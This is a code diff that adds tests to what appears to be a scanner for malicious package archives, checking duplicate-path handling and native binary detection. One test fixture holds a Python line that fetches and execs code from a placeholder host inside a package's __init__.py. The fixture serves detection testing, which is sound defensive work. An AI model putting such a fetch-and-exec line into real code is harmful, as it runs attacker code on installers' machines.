@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { test } from 'node:test'
 import type { ArtifactInspection } from '@cordon/model'
@@ -159,3 +159,44 @@ test('the version of the rules is a digest that stays the same within one progra
   assert.match(rulesVersion(), /^[0-9a-f]{32}$/)
   assert.equal(rulesVersion(), rulesVersion())
 })
+
+test('of files that share a path each is looked at: installers differ in which they keep', () => {
+  const clean = 'X = 1\n'
+  const fetched = 'import urllib.request\nexec(urllib.request.urlopen("https://drop.example.invalid/x").read())\n'
+  for (const bodies of [
+    [fetched, clean],
+    [clean, fetched],
+    [clean, fetched, clean],
+  ]) {
+    const bytes = writeZip([
+      { name: 'demo-1.0/setup.py', data: setup },
+      ...bodies.map((data) => ({ name: 'demo-1.0/demo/__init__.py', data })),
+    ])
+    const identity = { file: 'demo-1.0.zip', filename: 'demo-1.0.zip', sha256: '', size: bytes.length, clock: () => 0 }
+    assert.equal(inspectArtifact(bytes, identity).verdict, 'malicious')
+  }
+})
+
+test('few native files are read for what they ask of the system and name', () => {
+  const native = process.execPath
+  const found = inspectMembersOf([
+    { path: 'demo/__init__.py', bytes: Buffer.from('from . import core\n') },
+    { path: 'demo/core.so', bytes: readFileSync(native).subarray(0, 4_000_000) },
+  ])
+  assert.deepEqual(
+    found.facts.binaries.map(({ path, format }) => [path, format]),
+    [['demo-1.0/demo/core.so', 'elf']],
+  )
+  assert.ok((found.facts.binaries[0]?.architecture ?? '') !== '')
+})
+
+function inspectMembersOf(files: readonly { readonly path: string; readonly bytes: Uint8Array }[]): ArtifactInspection {
+  const bytes = writeZip(files.map(({ path, bytes: data }) => ({ name: `demo-1.0/${path}`, data })))
+  return inspectArtifact(bytes, {
+    file: 'demo-1.0.zip',
+    filename: 'demo-1.0.zip',
+    sha256: '',
+    size: bytes.length,
+    clock: () => 0,
+  })
+}
